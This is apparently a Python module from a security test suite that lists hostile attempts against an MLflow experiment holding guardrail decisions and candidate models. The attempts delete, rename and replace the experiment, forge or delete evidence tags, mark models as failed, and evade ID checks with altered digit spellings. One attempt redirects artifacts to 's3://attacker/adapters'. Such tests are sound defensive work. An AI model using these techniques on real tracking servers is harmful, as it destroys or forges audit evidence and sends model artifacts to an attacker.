"""Attempts on the experiment that decisions and candidates are recorded in: deleted, renamed, replaced, marked.

On stock MLflow each model under attack has such an experiment of its own, because each attempt spoils it.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from bypass import Refused, Target
from bypass_attempt import Attempt

EVIDENCE, CANDIDATE = "guardrail.evidence_sha256", "guardrail.candidate"
OTHER = "0" * 64


@dataclass(frozen=True)
class Decisions:
    """The experiment, a decision's run in it, and a candidate."""

    name: str
    experiment: str
    run: str
    model: str


KNOWN: dict[tuple[str, str], Decisions] = {}
"""By the server's address and the model under attack."""


def decisions(t: Target) -> Decisions:
    """Those of this target, made when they are first asked for."""
    key = (t.running.uri, t.name)
    if key not in KNOWN:
        KNOWN[key] = _found(t)
    return KNOWN[key]


def _found(t: Target) -> Decisions:
    name = "guardrail" if t.running.gated else f"guardrail-{t.name}"
    experiment = _experiment(t, name)
    tags = [{"key": EVIDENCE, "value": t.name}]
    where = {"experiment_ids": [experiment], "run_view_type": "ALL", "filter": f"tags.`{EVIDENCE}` = '{t.name}'"}
    runs = t.api("POST", "runs/search", **where).get("runs", [])
    if not runs:
        runs = [t.api("POST", "runs/create", experiment_id=experiment, start_time=1, tags=tags)["run"]]
    run = str(runs[0]["info"]["run_id"])
    models = t.api("POST", "logged-models/search", experiment_ids=[experiment]).get("models", [])
    ours = [one["info"]["model_id"] for one in models if one["info"]["name"] == t.name]
    return Decisions(name, experiment, run, str(ours[0]) if ours else _model(t, experiment))


def state(t: Target) -> list[object]:
    """How they look now; "gone" is what cannot be read any more."""
    known = decisions(t)
    return [
        _read(
            t,
            f"experiments/get?experiment_id={known.experiment}",
            "experiment",
            "lifecycle_stage",
            "name",
            "artifact_location",
            "tags",
        ),
        _read(t, f"runs/get?run_id={known.run}", "run", "info.lifecycle_stage", "data.tags"),
        _read(t, f"logged-models/{known.model}", "model", "info.status", "info.tags"),
    ]


def _experiment(t: Target, name: str) -> str:
    try:
        found = t.call("GET", f"api/2.0/mlflow/experiments/get-by-name?experiment_name={name}", None)["experiment"]
    except Refused:
        tags = [{"key": "kind", "value": "decisions"}]
        found = t.api("POST", "experiments/create", name=name, tags=tags)
    return str(found["experiment_id"])


def _model(t: Target, experiment: str) -> str:
    tags = [{"key": CANDIDATE, "value": t.name}]
    made = t.api("POST", "logged-models", experiment_id=experiment, name=t.name, tags=tags)["model"]["info"]["model_id"]
    t.api("PATCH", f"logged-models/{made}", model_id=made, status="LOGGED_MODEL_READY")
    return str(made)


def _read(t: Target, route: str, what: str, *paths: str) -> object:
    try:
        found = t.call("GET", f"api/2.0/mlflow/{route}", None)[what]
    except Refused:
        return "gone"
    return [_inside(found, path.split(".")) for path in paths]


def _inside(value: object, steps: list[str]) -> object:
    for step in steps:
        value = value.get(step) if isinstance(value, dict) else None
    return sorted(map(str, value)) if isinstance(value, list) else value


Body = Callable[[Decisions], dict[str, object]]


def post(how: str, route: str, body: Body, method: str = "POST") -> Callable[[Target], object]:
    """A call by ``api`` or ``ajax``; the route may name the logged model."""

    def move(t: Target) -> object:
        known = decisions(t)
        return getattr(t, how)(method, route.format(model=known.model), **body(known))

    return move


def client(method: str, *values: Callable[[Decisions], object]) -> Callable[[Target], object]:
    """A call of MLflow's client."""

    def move(t: Target) -> object:
        known = decisions(t)
        return getattr(t.client, method)(*(value(known) for value in values))

    return move


def experiment(known: Decisions) -> dict[str, object]:
    return {"experiment_id": known.experiment}


def spelt(spell: Callable[[str], str]) -> Body:
    """The experiment's number, as only a lenient reader takes it."""
    return lambda known: {"experiment_id": spell(known.experiment)}


def renamed(known: Decisions) -> dict[str, object]:
    return {**experiment(known), "new_name": f"{known.name}-{os.urandom(4).hex()}"}


def noted(known: Decisions) -> dict[str, object]:
    return {**experiment(known), "key": "mlflow.note.content", "value": "moved: use the other one"}


def replaced(t: Target) -> None:
    """Renamed away, and one of the same name made whose artifacts come to the attacker."""
    known = decisions(t)
    t.api("POST", "experiments/update", **renamed(known))
    t.api("POST", "experiments/create", name=known.name, artifact_location="s3://attacker/adapters")


def replaced_after_deletion(t: Target) -> None:
    """Deleted, renamed while it is deleted by being restored, and replaced."""
    known = decisions(t)
    t.api("POST", "experiments/delete", **experiment(known))
    t.api("POST", "experiments/restore", **experiment(known))
    t.api("POST", "experiments/update", **renamed(known))


def forged(key: str) -> Callable[[Decisions], dict[str, object]]:
    return lambda known: {"run_id": known.run, "key": key, "value": OTHER}


def model_tag(known: Decisions) -> dict[str, object]:
    return {"model_id": known.model, "tags": [{"key": CANDIDATE, "value": OTHER}]}


def batch(known: Decisions) -> dict[str, object]:
    return {"run_id": known.run, "tags": [{"key": EVIDENCE, "value": OTHER}]}


def arabic(number: str) -> str:
    return "".join(chr(0x660 + int(digit)) for digit in number)


recorded = partial(Attempt, depends=("database",))
E_, R_, M_ = (lambda d: d.experiment), (lambda d: d.run), (lambda d: d.model)

HOSTILE = [
    recorded("decisions' experiment deleted, api", post("api", "experiments/delete", experiment)),
    recorded("decisions' experiment deleted, ajax-api", post("ajax", "experiments/delete", experiment)),
    recorded("decisions' experiment deleted, client", client("delete_experiment", E_)),
    recorded(
        "decisions' experiment deleted by 0 and its number",
        post("api", "experiments/delete", spelt(lambda number: f"0{number}")),
    ),
    recorded(
        "decisions' experiment deleted by its number and a space",
        post("api", "experiments/delete", spelt(lambda number: f"{number} ")),
    ),
    recorded(
        "decisions' experiment deleted by its number in other digits", post("api", "experiments/delete", spelt(arabic))
    ),
    recorded("decisions' experiment renamed, api", post("api", "experiments/update", renamed)),
    recorded("decisions' experiment renamed, ajax-api", post("ajax", "experiments/update", renamed)),
    recorded(
        "decisions' experiment renamed, client",
        client("rename_experiment", E_, lambda d: f"{d.name}-{os.urandom(4).hex()}"),
    ),
    recorded("decisions' experiment replaced by one elsewhere", replaced),
    recorded("decisions' experiment deleted, restored and renamed", replaced_after_deletion),
    recorded("decisions' experiment described, api", post("api", "experiments/set-experiment-tag", noted)),
    recorded("decisions' experiment described, ajax-api", post("ajax", "experiments/set-experiment-tag", noted)),
    recorded(
        "decisions' experiment marked, client",
        client("set_experiment_tag", E_, lambda _: "mlflow.experimentKind", lambda _: "genai_development"),
    ),
    recorded("decisions' experiment unmarked, client", client("delete_experiment_tag", E_, lambda _: "kind")),
    recorded("run of a decision deleted, api", post("api", "runs/delete", lambda d: {"run_id": d.run})),
    recorded("run of a decision deleted, ajax-api", post("ajax", "runs/delete", lambda d: {"run_id": d.run})),
    recorded("run of a decision deleted, client", client("delete_run", R_)),
    recorded("evidence's tag of a run changed, api", post("api", "runs/set-tag", forged(EVIDENCE))),
    recorded("evidence's tag of a run changed, client", client("set_tag", R_, lambda _: EVIDENCE, lambda _: OTHER)),
    recorded("evidence's tag of a run changed in a batch", post("api", "runs/log-batch", batch)),
    recorded("evidence's tag of a run deleted", client("delete_tag", R_, lambda _: EVIDENCE)),
    recorded("another tag of ours put on a run", post("ajax", "runs/set-tag", forged("guardrail.verdict"))),
    recorded("candidate deleted, api", post("api", "logged-models/{model}", lambda d: {"model_id": d.model}, "DELETE")),
    recorded(
        "candidate deleted, ajax-api", post("ajax", "logged-models/{model}", lambda d: {"model_id": d.model}, "DELETE")
    ),
    recorded("candidate deleted, client", client("delete_logged_model", M_)),
    recorded("candidate's tag changed, api", post("api", "logged-models/{model}/tags", model_tag, "PATCH")),
    recorded("candidate's tag changed, client", client("set_logged_model_tags", M_, lambda _: {CANDIDATE: OTHER})),
    recorded("candidate's tag deleted, client", client("delete_logged_model_tag", M_, lambda _: CANDIDATE)),
    recorded(
        "candidate marked as failed, api",
        post(
            "api",
            "logged-models/{model}",
            lambda d: {"model_id": d.model, "status": "LOGGED_MODEL_UPLOAD_FAILED"},
            "PATCH",
        ),
    ),
    recorded("candidate marked as failed, client", client("finalize_logged_model", M_, lambda _: "FAILED")),
]
"""Every one changes what :func:`state` shows, on stock MLflow."""
